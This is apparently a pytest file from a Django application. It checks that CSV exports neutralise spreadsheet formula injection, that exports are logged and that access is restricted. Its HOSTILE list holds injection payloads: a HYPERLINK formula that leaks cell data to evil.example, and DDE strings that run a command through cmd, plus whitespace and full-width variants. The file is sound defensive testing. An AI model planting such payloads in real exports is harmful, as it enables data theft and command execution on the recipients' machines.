"""Attack 53: text that spreadsheets take for a formula leaves the house as text, whoever wrote it where."""

import csv
import io
import json
from typing import Any

import pytest

from openhall.blocks.identity.models import Person
from openhall.blocks.identity.sealed import NAME, person_key, sealed_json
from openhall.blocks.journal.models import Record
from openhall.ui.spreadsheets import csv_file
from tests.desks import CLERK, KEEPER, MASTER, NOOR, Browser, apply_for_mooring, task_at

pytestmark = pytest.mark.django_db

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\ufeff=1+1",
)
#: What Excel and LibreOffice begin a formula with, narrow and wide.
FORMULA = "=+-@＝＋－＠"


@pytest.fixture
def reference(demo_town: None) -> str:
    del demo_town
    made = apply_for_mooring()
    Browser(CLERK).send(f"/desk/cases/{made}/tasks/{task_at(made).id}/take/")
    return made


def cells(response: Any) -> list[list[str]]:  # noqa: ANN401 - the test client's own kind of response
    """Read a file as a spreadsheet does."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response.content.startswith(b"\xef\xbb\xbf"), "Excel needs the mark to read UTF-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def is_formula(cell: str) -> bool:
    return cell.lstrip(" \t\r\n\u00a0\u3000\u200b\ufeff\0")[:1] in FORMULA and bool(cell.strip()) and cell[0] != "'"


@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
def test_an_officer_s_name_is_text_in_the_list_of_work(reference: str, name: str) -> None:
    sealed = sealed_json({person_key(CLERK): {"en": name}}, NAME)
    Person.objects.filter(pk=CLERK).update(name=sealed[person_key(CLERK)])
    heads, *rows = cells(Browser(MASTER).look("/desk/work.csv?tab=office"))

    assert heads[0] == "Reference"
    assert [row[0] for row in rows] == [reference]
    assert rows[0][-1] == f"'{name}"
    assert not [cell for row in rows for cell in row if is_formula(cell)]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_whatever_stands_in_any_column(text: str) -> None:
    body = csv_file([text, "number"], [[text, -5], [f"a{text}", None], ["", 0]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))

    assert rows == [[f"'{text}", "number"], [f"'{text}", "-5"], [f"a{text}", ""], ["", "0"]]


def test_numbers_are_numbers_and_words_stay_as_they_are() -> None:
    body = csv_file(["陳大文", 'say "hi"'], [["a,b", 7], ["two\nlines", 0]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows == [["陳大文", 'say "hi"'], ["a,b", "7"], ["two\nlines", "0"]]


def test_a_list_that_is_taken_out_stands_in_the_log_and_others_get_none(reference: str) -> None:
    Browser(MASTER).look("/desk/work.csv?tab=office")
    record = Record.objects.filter(kind="desk.exported").get()
    assert json.loads(record.statement)["by"] == MASTER
    assert json.loads(record.statement)["rows"] == 1

    assert [row for row in cells(Browser(KEEPER).look("/desk/work.csv?tab=office"))[1:] if reference in row] == []
    assert Browser(NOOR).look("/desk/work.csv").status_code == 403
    assert cells(Browser(CLERK).look("/desk/counts.csv"))[0][0] == "Department"
